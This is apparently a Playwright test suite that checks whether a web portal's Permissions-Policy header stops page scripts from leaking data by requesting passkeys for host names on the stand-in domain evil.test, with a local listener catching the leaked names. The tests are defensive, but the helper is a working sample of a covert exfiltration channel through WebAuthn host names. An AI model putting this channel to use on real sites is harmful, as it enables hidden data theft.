import { expect, type Page } from '@playwright/test';
import { once } from 'node:events';
import { createServer, type AddressInfo } from 'node:net';
import { portalTest } from '../harness/test.ts';

interface Listener {
  port: number;
  /** Received bytes as text. The first TLS message contains the requested host name in plain text. */
  heard: string[];
}

const test = portalTest.extend<object, { listener: Listener }>({
  listener: [
    async ({}, use) => {
      const heard: string[] = [];
      const server = createServer((socket) => {
        socket.on('data', (bytes) => {
          heard.push(bytes.toString('latin1'));
          socket.destroy();
        });
        socket.on('error', () => undefined);
      }).listen(0, '127.0.0.1');
      await once(server, 'listening');
      await use({ port: (server.address() as AddressInfo).port, heard });
      server.close();
    },
    { scope: 'worker' },
  ],
  launchOptions: [
    async ({ launchOptions, listener }, use) => {
      const rule = `--host-resolver-rules=MAP *.evil.test:443 127.0.0.1:${String(listener.port)}`;
      await use({ ...launchOptions, args: [...(launchOptions.args ?? []), rule] });
    },
    { scope: 'worker' },
  ],
  baseURL: async ({ portal }, use) => use(portal.url),
});

/** Requests passkeys for host names that contain `name`, as a script leaking data would; returns the error of each call. */
const askForPasskeys = (page: Page, name: string): Promise<string[]> =>
  page.evaluate(async (id) => {
    const challenge = new Uint8Array(16);
    const user = { id: challenge, name: 'x', displayName: 'x' };
    const pubKeyCredParams = [{ type: 'public-key' as const, alg: -7 }];
    const signal = () => AbortSignal.timeout(3000);
    const rp = { id: `create-${id}.evil.test`, name: 'x' };
    const calls = [
      () =>
        navigator.credentials.get({
          signal: signal(),
          publicKey: { challenge, rpId: `get-${id}.evil.test` },
        }),
      () =>
        navigator.credentials.create({
          signal: signal(),
          publicKey: { challenge, rp, user, pubKeyCredParams },
        }),
    ];
    const names: string[] = [];
    // Runs the calls one by one, because a browser refuses a second request while one is open.
    for (const call of calls)
      names.push(
        await call().then(
          () => 'given',
          (error: unknown) => (error as Error).name,
        ),
      );
    return names;
  }, name);

const hasArrived = ({ heard }: Listener, name: string): boolean => heard.some((text) => text.includes(name));

test('control: without the portal’s policies a script can ask any host for passkeys', async ({
  page,
  listener,
}) => {
  await page.route('/about', async (route) => {
    const answer = await route.fetch();
    const headers = answer.headers();
    delete headers['permissions-policy'];
    await route.fulfill({ response: answer, headers });
  });
  await page.goto('/about');
  await askForPasskeys(page, 'free');
  await expect.poll(() => hasArrived(listener, 'get-free')).toBe(true);
  await expect.poll(() => hasArrived(listener, 'create-free')).toBe(true);
});

test('a script cannot ask another host for passkeys', async ({ page, listener }) => {
  const errors: string[] = [];
  page.on('console', (message) => errors.push(message.text()));
  await page.goto('/about');
  expect(await askForPasskeys(page, 'loot')).toEqual(['NotAllowedError', 'NotAllowedError']);
  expect(hasArrived(listener, 'loot')).toBe(false);
  expect(errors.filter((text) => text.includes('Permissions-Policy'))).toEqual([]);
});
